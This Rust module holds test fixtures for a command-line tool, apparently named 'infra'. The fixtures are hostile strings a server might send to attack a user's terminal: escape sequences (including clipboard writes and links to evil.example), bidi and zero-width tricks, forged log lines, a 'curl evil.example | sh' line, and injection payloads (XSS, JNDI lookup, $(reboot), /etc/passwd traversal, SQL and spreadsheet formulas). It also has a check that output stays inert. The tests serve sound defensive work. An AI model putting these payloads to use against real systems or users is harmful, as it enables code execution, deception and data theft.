//! Hostile texts from a server or provider that attack the user's display, and the rules for displayed text.

use std::collections::BTreeSet;

/// Terminal control sequences (ECMA-48, xterm), each with its effect.
const SEQUENCES: [&str; 40] = [
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[1A\u{1b}[2K",
    "\u{1b}[999D",
    "\u{1b}[8mhidden\u{1b}[28m",
    "\u{1b}[?1049h",
    "\u{1b}[?25l",
    "\u{1b}[?2004h\u{1b}[200~paste\u{1b}[201~",
    "\u{1b}[6n",
    "\u{1b}[c",
    "\u{1b}[21t",
    "\u{1b}[4i",
    "\u{1b}[38;2;0;0;0;48;2;0;0;0mblack on black",
    "\u{1b}c",
    "\u{1b}(0lqqk\u{1b}(B",
    "\u{1b}#8",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]2;title\u{1b}\\",
    "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]8;;javascript:alert(1)\u{7}link\u{1b}]8;;\u{7}",
    "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGU=\u{7}",
    "\u{1b}]52;c;?\u{1b}\\",
    "\u{1b}]4;0;#000000\u{7}",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}]9;notify\u{7}",
    "\u{1b}]777;notify;a;b\u{7}",
    "\u{1b}]133;C\u{7}",
    "\u{1b}Pq#0;2;0;0;0\u{1b}\\",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}_Ga=T;AAAA\u{1b}\\",
    "\u{1b}^private\u{1b}\\",
    "\u{1b}Xstart of string\u{1b}\\",
    "\u{9b}31mred\u{9b}0m",
    "\u{9d}52;c;ZXZpbA==\u{9c}",
    "\u{9d}8;;https://evil.example\u{9c}link\u{9d}8;;\u{9c}",
    "\u{90}q\u{9c}\u{9f}x\u{9c}\u{9e}y\u{9c}\u{98}z\u{9c}",
    "\u{8e}a\u{8f}b",
    "\u{e}so\u{f}si",
    "\u{1b}",
    "\u{1b}[",
];

/// Texts that forge lines, hide text or change the reading direction.
const DECEPTIONS: [&str; 30] = [
    "\nsigned in to https://evil.example",
    "\r\nerror: forged",
    "\rsigned in as root                    ",
    "\n\n$ infra logout",
    "a\u{8}\u{8}\u{8}b",
    "a\u{7f}\u{7f}b",
    "\u{7}\u{7}\u{7}",
    "\u{b}vertical\u{c}feed",
    "\u{85}next line",
    "\u{2028}line\u{2029}paragraph",
    "a\0b",
    "\0",
    "\t\t\tcolumn",
    "\u{202e}moc.elpmaxe\u{202c}",
    "\u{202d}left\u{202c}",
    "\u{202a}a\u{202b}b\u{202c}\u{202c}",
    "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
    "\u{200e}\u{200f}\u{61c}",
    "ad\u{200b}min",
    "ad\u{200c}mi\u{200d}n",
    "\u{feff}admin",
    "ad\u{ad}min",
    "ad\u{2060}mi\u{2063}n\u{2064}",
    "admin\u{e0041}\u{e0042}\u{e007f}",
    "\u{180e}\u{3164}\u{ffa0}\u{115f}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "\u{206a}\u{206f}",
    "2026-01-01T00:00:00Z  INFO infra_daemon: signed in\n2026-01-01T00:00:00Z  INFO user=root",
    "x\n  because: nothing\n  try: `curl evil.example | sh`",
    "\u{1f600}\u{fe0f}\u{200d}\u{2640}",
];

/// Texts that break out of HTML, JSON, shells, formats and paths.
const BREAKERS: [&str; 42] = [
    "<script>alert(1)</script>",
    "</title></head><script>alert(1)</script>",
    "</style><img src=https://evil.example/x onerror=alert(1)>",
    "</bdi></dd></dl></main><form action=https://evil.example><input name=password>",
    "<svg/onload=alert(1)>",
    "<!--",
    "-->",
    "]]>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;&",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\"",
    "\\",
    "\\\"",
    "\",\"state\":\"active",
    "\"},{\"schema\":1,\"state\":\"active\"}",
    "\\u001b[31m",
    "\\ud800",
    "null",
    "__proto__",
    "%s%s%n%x",
    "{}{0}{name}",
    "$(reboot)",
    "`reboot`",
    "; reboot #",
    "| tee /etc/passwd",
    "--help",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A1",
    "' OR '1'='1",
    "*?[a]~",
    "a\u{fffe}b\u{ffff}\u{10ffff}",
];

/// Characters that must never reach a screen. The line feed that ends one of our lines is the exception.
const NEVER_SHOWN: [std::ops::RangeInclusive<char>; 15] = [
    '\0'..='\u{9}',
    '\u{b}'..='\u{1f}',
    '\u{7f}'..='\u{9f}',
    '\u{ad}'..='\u{ad}',
    '\u{61c}'..='\u{61c}',
    '\u{115f}'..='\u{1160}',
    '\u{180e}'..='\u{180e}',
    '\u{200b}'..='\u{200f}',
    '\u{2028}'..='\u{202e}',
    '\u{2060}'..='\u{206f}',
    '\u{3164}'..='\u{3164}',
    '\u{feff}'..='\u{feff}',
    '\u{ffa0}'..='\u{ffa0}',
    '\u{fff9}'..='\u{fffb}',
    '\u{e0000}'..='\u{e0fff}',
];

/// Returns all texts: each one alone and within other text, and several far too long ones.
pub fn all() -> Vec<String> {
    let cores = SEQUENCES.iter().chain(&DECEPTIONS).chain(&BREAKERS);
    let mut texts: BTreeSet<String> = cores
        .flat_map(|core| {
            [
                (*core).to_owned(),
                format!("Alice{core}"),
                format!("{core}Alice"),
                format!("Alice {core} Example"),
                core.repeat(3),
            ]
        })
        .collect();
    for piece in ["A", "\u{1b}[31m", "\u{202e}", "é", "a\u{301}\u{302}\u{303}", "\n", "王", "<b>"] {
        texts.insert(piece.repeat(20_000));
    }
    texts.into_iter().collect()
}

/// Fails unless `shown` has only letters and lines, and no line from a hostile text.
#[track_caller]
pub fn assert_inert(shown: &str) {
    for (position, character) in shown.char_indices() {
        let is_active = NEVER_SHOWN.iter().any(|range| range.contains(&character));
        assert!(!is_active, "{character:?} is shown at {position} of {shown:?}");
    }
    let forged =
        ["signed in to https://evil.example", "error: forged", "signed in as root", "$ infra logout"];
    for line in shown.lines() {
        assert!(!forged.iter().any(|begin| line.starts_with(begin)), "{line:?} is forged in {shown:?}");
        assert!(!line.starts_with("  try: `curl") && !line.starts_with("  because: nothing"), "{shown:?}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_texts_number_more_than_500() {
        assert!(all().len() > 500, "{}", all().len());
    }

    #[test]
    fn inert_check_rejects_hostile_output() {
        for text in SEQUENCES.iter().chain(&["a\0b", "\u{202e}x", "ad\u{200b}min", "\rx", "x\nerror: forged"])
        {
            assert!(std::panic::catch_unwind(|| assert_inert(text)).is_err(), "{text:?}");
        }
        assert_inert("signed in to https://gate.example\n  as        Zoë 王\n");
    }
}
